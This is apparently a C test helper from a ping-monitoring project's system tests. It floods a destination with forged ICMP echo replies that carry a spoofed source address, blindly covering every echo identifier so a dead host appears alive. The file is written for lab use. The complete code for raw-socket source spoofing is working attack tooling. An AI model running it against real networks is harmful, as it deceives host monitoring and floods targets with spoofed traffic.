/*
 * icmp-forge SRC DST SECONDS: blind forged ICMP echo replies "from" SRC to
 * DST, for every identifier 0-65535 (sequence 1-4, no payload), round
 * after round for SECONDS. It cannot see the requests it pretends to
 * answer: the attacker of a ping node that is really dead. Run it in a lab
 * namespace, with lab addresses only (the system test does).
 */
#include "config.h"

#include <sys/socket.h>

#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static uint16_t
cksum(const void *p, size_t n)
{
	const uint16_t	*w = p;
	uint32_t	 s = 0;

	for (; n > 1; n -= 2)
		s += *w++;
	if (n)
		s += *(const uint8_t *)w;
	s = (s >> 16) + (s & 0xffff);
	s += s >> 16;
	return (uint16_t)~s;
}

int
main(int argc, char **argv)
{
	struct {
		struct iphdr	 ip;
		struct icmphdr	 ic;
	} __attribute__((packed)) p;
	struct sockaddr_in	 to;
	struct in_addr		 src, dst;
	time_t			 end;
	unsigned long		 sent = 0;
	int			 fd, one = 1, id, sq;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &src) != 1 ||
	    inet_pton(AF_INET, argv[2], &dst) != 1) {
		fprintf(stderr, "usage: icmp-forge SRC DST SECONDS\n");
		return 2;
	}
	end = time(NULL) + atoi(argv[3]);
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1 ||
	    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) == -1) {
		perror("icmp-forge: raw socket");
		return 1;
	}
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_addr = dst;
	while (time(NULL) < end) {
		for (id = 0; id < 65536; id++)
			for (sq = 1; sq <= 4; sq++) {
				memset(&p, 0, sizeof(p));
				p.ip.version = 4;
				p.ip.ihl = 5;
				p.ip.ttl = 64;
				p.ip.protocol = IPPROTO_ICMP;
				p.ip.tot_len = htons(sizeof(p));
				p.ip.saddr = src.s_addr;
				p.ip.daddr = dst.s_addr;
				p.ic.type = ICMP_ECHOREPLY;
				p.ic.un.echo.id = htons((uint16_t)id);
				p.ic.un.echo.sequence = htons((uint16_t)sq);
				p.ic.checksum = cksum(&p.ic, sizeof(p.ic));
				if (sendto(fd, &p, sizeof(p), 0,
				    (struct sockaddr *)&to, sizeof(to)) > 0)
					sent++;
			}
	}
	printf("icmp-forge: %lu forged replies sent\n", sent);
	return 0;
}
